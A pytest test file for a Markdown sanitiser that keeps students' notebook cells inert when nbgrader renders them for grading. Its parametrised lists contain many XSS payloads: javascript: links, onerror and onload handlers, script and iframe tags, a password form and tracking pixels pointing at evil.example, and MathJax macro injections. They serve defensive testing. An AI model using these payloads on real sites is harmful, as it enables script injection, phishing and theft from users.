"""A student's Markdown: it reads the same, and becomes nothing active in any renderer."""

import base64
import re
from collections import Counter
from html.parser import HTMLParser
from importlib.util import find_spec
from pathlib import Path

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert.exporters import HTMLExporter
from nbconvert.filters.markdown_mistune import InvalidNotebook, IPythonRenderer, MarkdownWithMath
from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor
from traitlets.config import Config

from cnn_course.grading.markdown import (
    CUT,
    JOINER,
    MAX,
    MAX_PICTURE,
    harmless,
    harmless_attachments,
)

NBGRADER = Path(find_spec("nbgrader").submodule_search_locations[0])
FORMGRADER = NBGRADER / "server_extensions/formgrader"
PNG, JPEG = b"\x89PNG\r\n\x1a\n" + bytes(40), b"\xff\xd8\xff\xe0" + bytes(40)
PICTURE = {"그림.png": {"image/png": "x"}, "a.png": {"image/png": base64.b64encode(PNG).decode()}}

# What Markdown itself makes, with the attributes that it gives: everything else is active.
ALLOWED = {
    **{tag: {} for tag in ["p", "br", "hr", "em", "strong", "del", "s", "blockquote", "pre"]},
    **{tag: {} for tag in ["dl", "dt", "dd", "table", "thead", "tbody", "tr"]},
    **{tag: {"id": ""} for tag in ["h1", "h2", "h3", "h4", "h5", "h6"]},
    **{tag: {"class": ""} for tag in ["code", "span", "ul"]},
    "li": {"class": "task-list-item"},
    "ol": {"start": r"\d+"},
    "th": {"style": "text-align: ?(left|right|center)"},
    "td": {"style": "text-align: ?(left|right|center)"},
    "div": {"class": "highlight"},
    "a": {"href": "(?i:https?://.*|#.*|mailto:.*)", "title": "", "class": "anchor-link"},
    "img": {"src": "data:image/(png|jpeg);base64,.*|attachment:a.png", "alt": ""},
    "input": {"class": "", "type": "checkbox", "disabled": "", "checked": ""},
}
MACROS = re.compile(
    r"\\(href|url|style|cssId|class|data|html|bbox|fcolorbox|mmlToken|texttip|mathtip|require"
    r"|unicode|csname|includegraphics)"
)


class Page(HTMLParser):
    """Collects the tags of a page, whatever is not allowed on it, and its text."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.active, self.text = [], [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, *attributes))
        if tag not in ALLOWED:
            self.active.append((tag,))
        for name, value in attributes:
            pattern = ALLOWED.get(tag, {}).get(name)
            if pattern is None or (pattern and not re.fullmatch(pattern, value, re.DOTALL)):
                self.active.append((tag, name, value))
            # drawn, from its text, by a program of its own
            if name == "class" and re.search("(?i)(?<!\u2060)mermaid", value):
                self.active.append((tag, name, value))

    def handle_data(self, data):
        self.text += data

    def handle_decl(self, declaration):
        self.active.append(("!", declaration))

    handle_comment = unknown_decl = handle_pi = handle_decl


@pytest.fixture(scope="module", params=["feedback", "formgrade"])
def cell_page(request):
    """Return a function that renders a cell as nbgrader does, for students or for graders."""
    config = Config()
    config.HTMLExporter.template_name = request.param
    config.HTMLExporter.extra_template_basedirs = [str(FORMGRADER / "templates")]
    css = FORMGRADER / "static/node_modules/bootstrap/dist/css"
    config.HTMLExporter.extra_template_paths = [str(css)]
    exporter = HTMLExporter(config=config)
    exporter.register_preprocessor(CSSHTMLHeaderPreprocessor, enabled=True)

    def render(source, attachments=None, kind="markdown"):
        marks = {"grade": True, "solution": True, "points": 5, "score": 0, "grade_id": "short"}
        cell = {"id": "a", "cell_type": kind, "metadata": {"nbgrader": marks}, "source": source}
        if kind == "markdown":
            cell["attachments"] = attachments or {}
        numbers = {"score": 0, "max_score": 5, "late_penalty": 0, "notebook": "01"}
        resources = {"nbgrader": numbers, "index": 0, "total": 1, "base_url": "/"}
        notebook = nbformat.from_dict({"nbformat": 4, "nbformat_minor": 5, "metadata": {}})
        notebook.cells = [nbformat.from_dict(cell)]
        html, _ = exporter.from_notebook_node(notebook, resources)
        return html[html.index('id="notebook-container"') :]

    return render


@pytest.fixture(scope="module")
def around(cell_page):
    """The pages around an empty cell of each kind: nbgrader's own forms and buttons."""
    return {kind: cell_page("", kind=kind) for kind in ("markdown", "raw")}


def active(html, around=""):
    """Return what of a page is active, beside what is also ``around`` an empty cell."""
    found = Counter(Page(html).active) - Counter(Page(around).active)
    text = re.sub(r"<(code|pre).*?</\1>", "", html, flags=re.DOTALL)  # MathJax skips these
    return [*found, *MACROS.findall(text)]


def by_mistune(source, attachments=PICTURE):
    """Render as nbconvert does, without the page around it."""
    renderer = IPythonRenderer(escape=False, attachments=attachments)
    return MarkdownWithMath(renderer=renderer).render(source)


def by_markdown_it(source):
    """Render as one who trusts everything: raw HTML stays, and so does every link."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True
    return parser.render(source)


LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](\njavascript:alert(1)\n)",
    "[x](<javascript:alert(1)>)",
    "[x](< javascript:alert(1) >)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](../../gradebook.db)",
    "[x](/formgrader/submissions/1/next)",
    "[x](https\\://evil.example/ 'a')[y](javascript:alert(1))",
    '[x](javascript:alert(1) "https://example.com")',
    "[a [b] c](javascript:alert(1))",
    "[a\\]b](javascript:alert(1))",
    "[`](`](javascript:alert(1))",
    "[**x**](javascript:alert(1))",
    "# [x](javascript:alert(1))",
    "[x](javascript:alert(1))\n===",
    "> - 1. [x](javascript:alert(1))",
    "| a |\n|---|\n| [x](javascript:alert(1)) |",
    "a\n: [x](javascript:alert(1))",
    "- [ ] [x](javascript:alert(1))",
    "[x](javascript:alert(1)\u2028)",
    "[x](java\x00script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](javascript://https://example.com/%0Aalert(1))",
]
REFERENCES = [
    "[x]\n\n[x]: javascript:alert(1)",
    "[y][x]\n\n[x]: javascript:alert(1)",
    "[x][]\n\n[x]:javascript:alert(1)",
    "[x]\n\n[x]:\njavascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)>",
    "[x]\n\n   [x]:   javascript:alert(1)\n   'https://example.com'",
    "[x]\n\n[x]: &#106;avascript:alert(1)",
    "[x]\n\n> [x]: javascript:alert(1)",
    "[x]\n\n- [x]: javascript:alert(1)",
    "[x]\n\n[X]: data:text/html,<b>\n[x]: https://example.com",
    "[^1]\n\n[^1]: javascript:alert(1)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    "![x]\n\n[x]: https://evil.example/pixel.png",
]
PICTURES = [
    "![x](https://evil.example/pixel.png)",
    "![x](HTTP://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![a ![b](attachment:a.png)](https://evil.example/pixel.png)",
    "![a](attachment:a.png)![b](https://evil.example/pixel.png)",
    "![a](<attachment:a.png>)![b](https://evil.example/pixel.png)",
    "[![x](https://evil.example/pixel.png)](https://example.com)",
    "![a\nb](https://evil.example/pixel.png)",
    "!\x0b[x](https://evil.example/pixel.png)",
]
HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr\x00ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "a <svg onload=alert(1)> b",
    "<svg><script href=data:,alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import 'https://evil.example'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<div style='position:fixed;inset:0'>가짜 화면</div>",
    "</div></div></div><p class=score>100",
    "<details ontoggle=alert(1) open>x</details>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<!-- 답 --><b>x</b>",
    "<!--> <b>x</b> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "[<b onclick=alert(1)>x](https://example.com)",
    "**<b>**<i>",
    "`<b>` <b>x</b>",
    "``` <b>x</b> ```<i>y</i>",
    "```\n<b>\n``` `\n</b><i>\n```\n<u>x</u>",
    "    <b>\n\n<u>x</u>",
    "~~~\n<b>\n```\n<b>\n~~~\n<u>x</u>",
    "- a\n\n      <b>\n\n  <u>x</u>",
    "> <script>\n> alert(1)\n</script>",
    "| a |\n|---|\n| <u>x</u> |",
    "a\n: <u>x</u>",
    "$$ a\n\n<u>x</u>\n\n$$ <u>y</u>",
    "\\\\<u>x</u>",
    "$a$<u>x</u>$b$",
    "<u>x</u>\n---",
    "# <u>x</u>",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
]
DRAWINGS = [
    "```mermaid\ngraph TD; A@{ img: 'https://evil.example/pixel.png' }\n```",
    "~~~~ \u3000mermaid\ngraph TD; click A 'javascript:alert(1)'\n~~~~",
    "> ``` mermaid x\n> graph TD;\n> ```",
]
FORMULAS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$$\style{background:url(https://evil.example)}{x}$$",
    r"\\(\cssId{score}{x}\\)",
    r"\begin{align}\class{score}{x}\end{align}",
    r"$\require{html}x$",
    r"$\unicode[x;background:url(//evil.example)]{65}$",
    r"$\htmlStyle{color:red}{x}$",
    r"$\data{a=b}{x}$",
    r"$\csname href\endcsname{javascript:alert(1)}{x}$",
    r"$\bbox[background:url(https://evil.example)]{x}$",
    r"$\fcolorbox{red;background:url(https://evil.example)}{red}{x}$",
    r"$\mmlToken{mi}[href='javascript:alert(1)']{x}$",
    r"$\includegraphics{https://evil.example/pixel.png}$",
    r"$\url{javascript:alert(1)}$",
    r"$\texttip{x}{y}\mathtip{x}{y}$",
    r"$\let\b=\bbox \b[background:url(https://evil.example)]{x}$",
    r"\$\\href{javascript:alert(1)}{x}\$",
    "$\\h\x0bref{javascript:alert(1)}{x}$",
]
HOSTILE = LINKS + REFERENCES + PICTURES + HTML + DRAWINGS + FORMULAS
ELSEWHERE = [  # taken for more than text by other versions and other renderers
    "<img/src=`x`onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "x[^1]\n\n[^1]: <b>x</b>",
    "HTML\n\n*[HTML]: <b onclick=alert(1)>",
    "[x] [y]\n\n[y]: javascript:alert(1)",
    "{: onclick=alert(1)}\n# x {onclick=alert(1)}",
    "[[javascript:alert(1)]]",
    "@@0@@ $<b>$ [x](https://@@0@@)",
]


@pytest.mark.parametrize("source", HOSTILE + ELSEWHERE)
def test_nothing_active_comes_out_of_a_cell(cell_page, around, source):
    made = harmless(source, PICTURE)
    for kind, empty in around.items():
        assert active(cell_page(made, PICTURE, kind), around=empty) == []
    assert active(by_markdown_it(made)) == []


@pytest.mark.parametrize("source", HOSTILE)
def test_each_of_these_is_active_if_left_alone(source):
    """Else the test above would pass whatever is done."""
    source = re.sub(r"[\x00-\x08\x0b-\x1f]", "", source)  # as some browsers read it
    assert active(by_mistune(source)) or active(by_markdown_it(source))


@pytest.mark.parametrize(
    "syntax",
    [
        "<|b", "<|B", "<|/", "<|!", "<|?", "&|#106;", "&|colon;", "!|[", "!|[a]|(b)",
        "]|(", "]|(javascript:)", "]|( https://e.x)", "]|(<|https://e.x>)", "]|(ahttps://e.x)", "]|(https:e.x)", "]|:https:e.x",
        "]|:", "]|:javascript:", "]|:\nhttps://e.x", "]|: <|https://e.x>", "!|[a]|(attachment:b.png)",
        "!|[[a]|(attachment:a.png)", "!|[a]|(attachment:a.png 'b')", "!|[<|b>]|(attachment:a.png)",
    ],
)  # fmt: skip
def test_a_joiner_stands_in_whatever_could_become_syntax(syntax):
    assert harmless(syntax.replace("|", ""), PICTURE) == syntax.replace("|", JOINER)


SYNTAX = [
    *"<>&[]()!`$|*_#:=-~{}'\"?/.,;1ax \n\t\\", "\n\n", "\n> ", "\n- ", "\n1. ", "    ", "```", "~~~",
    "$$", "](", "]:", "![", "[x]", "[x]:", "<!--", "-->", "<?", "<![CDATA[", "]]>", "script", "svg/onload=",
    "img src=x onerror=", "javascript:", "data:text/html,", "&#106;", "&colon;", "&lt;", "https://e.x/",
    "attachment:a.png", "attachment:b.png", "mermaid", "href", "\\href{", "\\begin{a}", "\\end{a}", "\\[",
    "\\(", "|-|", "[^1]:", "files/", JOINER, "\r", "\x0b", "\x00", "\u2028", "\xa0", "\ufeff", "\ud800",
]  # fmt: skip


@settings(max_examples=1000)
@given(st.lists(st.sampled_from(SYNTAX), max_size=30).map("".join))
def test_nothing_active_comes_out_of_whatever_is_put_together(source):
    made = harmless(source, PICTURE)
    assert active(by_mistune(made)) == []
    assert active(by_markdown_it(made)) == []
    assert harmless(made, PICTURE) == made


HONEST = [
    "# 제목\n\n## 둘째 *제목*\n\n글 **굵게** ~~지움~~ `code`\n다음 줄  \n줄 바꿈",
    "제목\n===\n\n부제\n---\n\n***\n",
    "- 하나\n  - 둘\n    1. 셋\n- [ ] 할 일\n- [x] 한 일",
    "> 인용\n> > 더 깊이\n",
    "| 층 | 개수 |\n|:---|---:|\n| conv1 | `5*5*6+6` |\n",
    "용어\n: 뜻\n",
    "출력은 $(n - k) / s + 1$이고 $\\frac{\\partial L}{\\partial w_{ij}} < \\epsilon$입니다.",
    "$$\n\\begin{aligned} y &= x * w \\\\ &= \\sum_{u, v} x_{i+u, j+v} w_{uv} \\end{aligned}\n$$",
    "\\begin{align}\na &= b\\label{eq}\\\\[2pt]\n\\end{align}\n\\(a\\) \\\\(a\\\\)",
    "$\\color{red}{x} \\text{와 } \\textstyle \\operatorname{ReLU}(x) \\def\\w{w}\\w \\tag{1}$",
    "[글](https://example.com) [위](#제목) [찾기](http://example.com/?a=1&b=2#c 'title')",
    "[글](https://ko.wikipedia.org/wiki/합성곱_(수학)) [**굵은** `글`](https://example.com)",
    "[글][ref] [ref] [ref][]\n\n[ref]: https://example.com 'title'\n[b]:#위\n",
    "주소 https://example.com/?a=1&b=2 와 www.example.com",
    "![그림 (1).png](attachment:a.png) [![a](attachment:a.png)](https://example.com)",
    "R & D, 1 < 2 > 0, a[0][1], 3! [x] (y) :) <- -> <3 :] \\* \\[ C:\\Users",
]
MARKED = [  # a joiner stands in these, and is not seen
    "```python\nif x<y and a<b:\n    y = x[0](1)\n```\n\n    for i<n\n",
    "~~~\n<p>&nbsp;![a](b)\n~~~\n`a<b` ``x[0](y)``",
    "```c\n#include <stdio.h>\n```",
    "값이 a<b이고 n![1]이며 a[0]:b와 x&y",
]


@pytest.mark.parametrize("source", HONEST)
def test_honest_markdown_is_left_as_it_is(source):
    assert harmless(source, PICTURE) == source


@pytest.mark.parametrize("source", MARKED)
def test_a_joiner_changes_nothing_that_is_seen(cell_page, source):
    left, made = Page(cell_page(source)), Page(cell_page(harmless(source)))
    assert harmless(source).replace(JOINER, "") == source
    assert made.text.replace(JOINER, "") == left.text
    if "```" in source:  # the highlighter may see other tokens: the colours of "<" and ">"
        return
    assert made.tags == left.tags


@pytest.mark.parametrize(
    "source",
    ["$a<b$", "$$\na<b\n$$", "$f[i](x)$", "$n![k]$", "\\begin{matrix}a&b\\end{matrix}", "$[0]:x$"],
)
def test_a_formula_gets_a_space_which_tex_does_not_see(source):
    made = harmless(f"글 {source} 글")
    assert JOINER not in made and made != f"글 {source} 글"
    assert made.replace(" ", "") == f"글{source}글"


def test_control_characters_go_and_line_ends_become_newlines():
    assert harmless("a\x00\x08\x0b\x0c\x1b\x7f\x85b\tc\r\nd\re\n") == "ab\tc\nd\ne\n"


def test_a_lone_surrogate_can_be_written_to_a_file():
    assert harmless("a\ud800b\udfff") == "a\ufffdb\ufffd"
    assert harmless("😀") == "😀"


def test_too_long_a_text_is_cut_and_says_so():
    assert harmless("가" * MAX) == "가" * MAX
    assert harmless("가" * (MAX + 1)) == "가" * MAX + CUT
    assert "20,000자를 넘어" in by_mistune(harmless("```\n" + "a" * MAX))
    assert active(by_mistune(harmless("<u>" * MAX))) == []


def test_a_picture_that_is_not_there_does_not_break_the_page(cell_page):
    source = "![a](attachment:missing.png) ![b](attachment:a.png)"
    with pytest.raises(InvalidNotebook):
        cell_page(source, PICTURE)
    page = Page(cell_page(harmless(source, PICTURE), PICTURE))
    assert [tag[0] for tag in page.tags].count("img") == 1
    assert "missing.png" in page.text
    assert "img" not in {tag[0] for tag in Page(by_mistune(harmless(source))).tags}


def picture(content, kind="image/png"):
    return {kind: base64.b64encode(content).decode()}


def test_pictures_are_kept():
    kept = {"a.png": picture(PNG), "사진.jpg": picture(JPEG, "image/jpeg")}
    assert harmless_attachments(kept) == kept
    assert harmless_attachments(nbformat.from_dict(kept)) == kept
    largest = {"a": picture(PNG.ljust(MAX_PICTURE, b"."))}
    assert harmless_attachments(largest) == largest


@pytest.mark.parametrize(
    "bundle",
    [
        picture(b"<svg onload='alert(1)'/>", "image/svg+xml"),
        picture(b"<svg onload='alert(1)'/>"),
        picture(JPEG),
        picture(PNG, "image/jpeg"),
        picture(PNG, "image/PNG"),
        picture(PNG, "text/html"),
        picture(PNG) | picture(b"<svg/>", "image/svg+xml"),
        picture(PNG) | picture(JPEG, "image/jpeg"),
        picture(PNG.ljust(MAX_PICTURE + 1, b".")),
        {"image/png": picture(PNG)["image/png"] + '" onerror="alert(1)'},
        {"image/png": picture(PNG)["image/png"][:-1]},
        {"image/png": "그림"},
        {"image/png": [picture(PNG)["image/png"]]},
        {"image/png": None},
        {},
        "image/png",
        None,
    ],
)
def test_other_attachments_are_dropped(bundle):
    assert harmless_attachments({"a": bundle, "b": picture(PNG)}) == {"b": picture(PNG)}


@pytest.mark.parametrize("attachments", [None, [], "a.png", 1, {}])
def test_no_attachments_are_none(attachments):
    assert harmless_attachments(attachments) == {}
